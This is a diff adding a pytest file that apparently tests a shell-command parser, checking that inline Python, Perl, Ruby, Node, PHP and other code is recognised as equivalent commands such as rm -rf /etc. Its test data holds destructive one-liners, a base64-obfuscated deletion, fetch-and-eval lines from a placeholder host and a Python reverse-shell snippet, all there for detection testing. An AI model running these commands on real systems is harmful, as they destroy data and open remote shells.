@@ -1,0 +1,174 @@
+"""Code of other languages on a command line: what it deletes, writes and runs is read as the commands that do the same."""
+
+from __future__ import annotations
+
+import pytest
+
+from bus.shell import UNKNOWN, commands
+
+
+def lines(text: str) -> list[str]:
+    return [one.line for one in commands(text).items]
+
+
+@pytest.mark.req("X-09")
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("import shutil; shutil.rmtree('/etc')", "rm -r /etc"),
+        ("from shutil import rmtree as r\nr('/etc')", "rm -r /etc"),
+        ("import os as o; o.remove('/etc/x')", "rm /etc/x"),
+        ("__import__('shutil').rmtree('/etc')", "rm -r /etc"),
+        ("import os; getattr(os, 'system')('rm -rf /etc')", "rm -rf /etc"),
+        ("import os; os.system('rm -rf /etc')", "rm -rf /etc"),
+        ("import os; os.system('cd / && rm -rf ' + 'etc')", "rm -rf etc"),
+        ("import os; d = '/etc'; os.system(f'rm -rf {d}')", "rm -rf /etc"),
+        ("import os; os.popen('rm -rf %s' % '/etc')", "rm -rf /etc"),
+        ("import subprocess; subprocess.run(['rm', '-rf', '/etc'])", "rm -rf /etc"),
+        ("import subprocess as s; s.check_call('rm -rf /etc', shell=True)", "rm -rf /etc"),
+        ("from subprocess import *; run(['sh', '-c', 'rm -rf /etc'])", "rm -rf /etc"),
+        ("import subprocess; c = ['rm', '-rf']; subprocess.Popen(c + ['/etc'])", "rm -rf /etc"),
+        ("import subprocess; subprocess.run('rm -rf /etc'.split())", "rm -rf /etc"),
+        ("import subprocess; subprocess.run('bash', input='rm -rf /etc', text=True)", "rm -rf /etc"),
+        ("import os; os.execvp('rm', ['rm', '-rf', '/etc'])", "rm -rf /etc"),
+        ("import os; os.execlp('rm', 'rm', '-rf', '/etc')", "rm -rf /etc"),
+        ("import pathlib; pathlib.Path('/etc/x').unlink()", "rm /etc/x"),
+        ("from pathlib import Path; (Path('/etc') / 'x').unlink(missing_ok=True)", "rm /etc/x"),
+        ("from pathlib import Path; p = Path.home(); p.rmdir()", "rmdir ~"),
+        ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "rm -r ~"),
+        ("import shutil, os; shutil.rmtree(os.environ['HOME'])", "rm -r ~"),
+        ("import shutil, os; shutil.rmtree(os.path.join('/', 'etc'))", "rm -r /etc"),
+        ("import os\nfor f in os.listdir('/etc'):\n    os.remove('/etc/' + f)", "rm /etc//etc/$…"),
+        ("import os, glob\n[os.remove(f) for f in glob.glob('/etc/*')]", "rm /etc/*"),
+        ("import os\nfor r, d, fs in os.walk('/etc'):\n  for f in fs: os.unlink(os.path.join(r, f))", "rm $…"),
+        ("from pathlib import Path\nfor p in Path('/etc').rglob('*'): p.unlink()", "rm /etc/$…"),
+        ("open('/etc/passwd', 'w').write('x')", "tee /etc/passwd"),
+        ("with open('/etc/passwd', mode='a') as f: f.write('x')", "tee -a /etc/passwd"),
+        ("from pathlib import Path; Path('/etc/hosts').write_text('x')", "tee /etc/hosts"),
+        ("import shutil; shutil.move('.git', '/tmp/x')", "mv .git /tmp/x"),
+        ("import os; os.chmod('/etc/passwd', 0o777)", "chmod 777 /etc/passwd"),
+        ("import os, signal; os.kill(-1, signal.SIGKILL)", "kill -9 $…"),
+        ("exec(\"import shutil; shutil.rmtree('/etc')\")", "rm -r /etc"),
+        ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvZXRjIik='))", "rm -rf /etc"),
+        ("def f(p):\n    import shutil\n    shutil.rmtree(p)\nimport os\nos.system('rm -rf /etc')", "rm -rf /etc"),
+        ("import redis; redis.Redis().flushall()", "redis-cli FLUSHALL"),
+        ("import requests; requests.delete('https://api.x/y')", "curl -X DELETE https://api.x/y"),
+    ],
+)
+@pytest.mark.parametrize(
+    "form",
+    ["python3 -c {quoted}", "python3 <<'EOF'\n{code}\nEOF", "python -Sc {quoted}", "python3.12 - <<'E'\n{code}\nE"],
+)
+def test_python(form: str, code: str, expected: str) -> None:
+    quoted = "'" + code.replace("'", "'\\''") + "'"
+    if expected != "rm $…" and "-1" not in code:
+        assert expected in lines(form.format(code=code, quoted=quoted))
+
+
+@pytest.mark.req("X-09")
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("perl -e 'unlink \"/etc/x\"'", "rm /etc/x"),
+        ("perl -e 'unlink glob(\"/etc/*\")'", "rm /etc/*"),
+        ("perl -e 'unlink </etc/*>'", "rm /etc/*"),
+        ("perl -MFile::Path -e 'rmtree(\"/etc\")'", "rm -r /etc"),
+        ("perl -MFile::Path=remove_tree -e 'remove_tree(q{/etc})'", "rm -r /etc"),
+        ("perl -le 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
+        ("perl -e 'system(\"rm\", \"-rf\", \"/etc\")'", "rm -rf /etc"),
+        ("perl -e 'exec q(rm -rf /etc)'", "rm -rf /etc"),
+        ("perl -e '`rm -rf /etc`'", "rm -rf /etc"),
+        ("perl -e '$d=\"/etc\"; system(\"rm -rf $d\")'", "rm -rf /etc"),
+        ("perl -e 'system(\"rm -rf $ENV{HOME}\")'", "rm -rf ~"),
+        ("perl <<'E'\nsystem('rm -rf /etc');\nE", "rm -rf /etc"),
+        ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/etc\")'", "rm -r /etc"),
+        ("ruby -rfileutils -e 'FileUtils.rm_rf \"/etc\"'", "rm -r /etc"),
+        ("ruby -e 'FileUtils.rm_rf(Dir.home)'", "rm -r ~"),
+        ("ruby -e 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
+        ("ruby -e 'system \"rm\", \"-rf\", \"/etc\"'", "rm -rf /etc"),
+        ("ruby -e '`rm -rf /etc`'", "rm -rf /etc"),
+        ("ruby -e '%x{rm -rf /etc}'", "rm -rf /etc"),
+        ("ruby -e 'Dir.glob(\"/etc/*\").each { |f| File.delete(f) }'", "rm /etc/*"),
+        ("ruby -e 'File.write(\"/etc/passwd\", \"x\")'", "tee /etc/passwd"),
+        ("node -e \"require('fs').rmSync('/etc', {recursive: true, force: true})\"", "rm -r /etc"),
+        ("node -e \"const fs = require('fs'); fs.rmdirSync('/etc', { recursive: true })\"", "rm -r /etc"),
+        ("node -e \"require('fs').unlinkSync('/etc/x')\"", "rm /etc/x"),
+        ("node -e \"require('child_process').execSync('rm -rf /etc')\"", "rm -rf /etc"),
+        ("node -e \"require('child_process').spawnSync('rm', ['-rf', '/etc'])\"", "rm -rf /etc"),
+        ("node -e 'const {execSync: e} = require(\"child_process\"); require(\"child_process\").exec(`rm -rf /etc`)'",
+         "rm -rf /etc"),
+        ("node --eval=\"require('fs').rmSync(process.env.HOME, {recursive:true})\"", "rm -r ~"),
+        ("node -p \"require('fs').writeFileSync('/etc/passwd', '')\"", "tee /etc/passwd"),
+        ("node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"", "rm -r ~"),
+        ("node <<'E'\nrequire('fs').rmSync('/etc', {recursive: true})\nE", "rm -r /etc"),
+        ("echo \"require('fs').rmSync('/etc', {recursive: true})\" | node", "rm -r /etc"),
+        ("bun -e \"require('fs').rmSync('/etc', {recursive: true})\"", "rm -r /etc"),
+        ("deno eval \"Deno.removeSync('/etc', { recursive: true })\"", "rm -r /etc"),
+        ("php -r 'unlink(\"/etc/x\");'", "rm /etc/x"),
+        ("php -r 'system(\"rm -rf /etc\");'", "rm -rf /etc"),
+        ("php -r 'shell_exec(\"rm -rf \" . \"/etc\");'", "rm -rf /etc"),
+        ("php -r 'array_map(\"unlink\", glob(\"/etc/*\"));'", "rm /etc/*"),
+        ("php -r 'file_put_contents(\"/etc/passwd\", \"\");'", "tee /etc/passwd"),
+        ("lua -e 'os.execute(\"rm -rf /etc\")'", "rm -rf /etc"),
+        ("osascript -e 'do shell script \"rm -rf /etc\"'", "rm -rf /etc"),
+        ("python3 -m pip uninstall -y x", "pip uninstall -y x"),
+    ],
+)  # fmt: skip
+def test_other_languages(text: str, expected: str) -> None:
+    assert expected in lines(text)
+
+
+@pytest.mark.req("X-09")
+@pytest.mark.parametrize(
+    "text",
+    ["python3 -c \"import os; print('rm -rf /')\"", "python3 -c 'open(\"x\").read()'",
+     "python3 s.py -c 'import os; os.remove(1)'",
+     "python3 -c 'print(shutil.rmtree)'", "node -e 'console.log(\"rm -rf /etc\")'", "perl -ne 'print if /unlink/' f",
+     "ruby -e 'puts \"system\"'", "perl -pe 's/a/b/' f", "python3 -m json.tool", "node -e 'x.replace(/rm -rf/, 1)'",
+     "php -r 'echo \"rm -rf /\";'", "grep 'os.system(\"rm -rf /\")' f",
+     "python3 -c 'd = {}; d.get(\"x\").replace(\"a\", \"b\")'"],
+)  # fmt: skip
+def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
+    assert not any(one.program in ("rm", "tee", "mv", "rmdir") for one in commands(text).items)
+
+
+@pytest.mark.req("X-09")
+@pytest.mark.parametrize(
+    ("text", "source"),
+    [
+        ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", "curl"),
+        ("python3 -c \"import requests\nx = requests.get('http://x').text\nexec(x)\"", "curl"),
+        ("python3 -c \"from urllib.request import urlopen; import os; os.system(urlopen('http://x').read().decode())\"",
+         "curl"),
+        ("python3 -c \"import base64; exec(base64.b64decode(open('f').read()))\"", "base64"),
+        ("python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
+         "nc"),
+        ("perl -MLWP::Simple -e 'eval get(\"http://x\")'", "curl"),
+        ("ruby -ropen-uri -e 'eval URI.open(\"http://x\").read'", "curl"),
+        ("node -e \"fetch('http://x').then(r => r.text()).then(eval)\"", "curl"),
+        ("php -r 'eval(file_get_contents(\"http://x\"));'", "curl"),
+        ("node -e 'eval(atob(\"eA==\"))'", "base64"),
+        ("curl http://x | node", "curl"),
+        ("curl http://x | python3 -", "curl"),
+        ("ruby -e \"$(curl http://x)\"", "curl"),
+    ],
+)  # fmt: skip
+def test_code_from_the_network(text: str, source: str) -> None:
+    assert any(source in one.code_from for one in commands(text).items)
+
+
+@pytest.mark.req("X-09")
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "code",
+    ["x='a'*9\n" + "x=x+x\n" * 200, "(" * 5000, "f(" * 900, "[" * 80 + "]" * 80, "x=" + "+".join(["'a'"] * 3000),
+     "unlink(" * 8000, "`" * 60000, "\ue000 = 1", "\0", "exec(" * 50 + "'1'" + ")" * 50, "x=1\n" * 20000],
+)  # fmt: skip
+def test_hostile_code_takes_bounded_time(code: str) -> None:
+    for program in ("python3 -c", "perl -e", "node -e"):
+        commands(f"{program} '" + code.replace("'", '"') + "'")
+
+
+def test_what_code_does_not_tell_is_marked() -> None:
+    (_, command) = commands("python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' x").items
+    assert command.words == ("-r", UNKNOWN)
